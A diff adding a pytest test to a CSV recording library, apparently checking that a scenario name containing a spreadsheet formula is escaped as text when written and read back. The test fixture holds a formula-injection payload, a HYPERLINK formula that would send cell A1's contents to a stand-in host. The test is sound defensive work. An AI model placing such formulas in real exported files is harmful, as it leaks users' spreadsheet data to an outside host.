@@ -186,3 +186,17 @@ def test_a_clock_that_changes_its_period_is_refused_on_reading_with_file_and_lin
     path.write_text("# ts_s: 0.2\nt_s,u_v,l_mm\n" + "".join(f"{0.1 * k:.1f},5,1\n" for k in range(50)))
     with pytest.raises(RecordingError, match=r"clock\.csv, line 1: header '# ts_s: 0.2' contradicts the t_s column"):
         read_recording(path)
+
+
+def test_a_header_value_from_elsewhere_makes_no_formula_in_a_spreadsheet(tmp_path):
+    """A scenario named 'Rig A,=HYPERLINK(...)' went into result.csv's header line, which a spreadsheet
+    splits at the comma into a formula cell: that cell is text, and the value reads back as written."""
+    import numpy as np
+
+    from tapmuscle.io.recording import Recording, read_recording, write_recording
+
+    t = np.arange(3) * 0.1
+    write_recording(tmp_path / "r.csv", Recording({"t_s": t, "u_v": t, "l_mm": t},
+                                                  {"scenario": 'Rig A,=HYPERLINK("http://x/?"&A1)'}))
+    assert '# scenario: Rig A,\'=HYPERLINK("http://x/?"&A1)\n' in (tmp_path / "r.csv").read_text()
+    assert read_recording(tmp_path / "r.csv").metadata["scenario"] == 'Rig A,\'=HYPERLINK("http://x/?"&A1)'
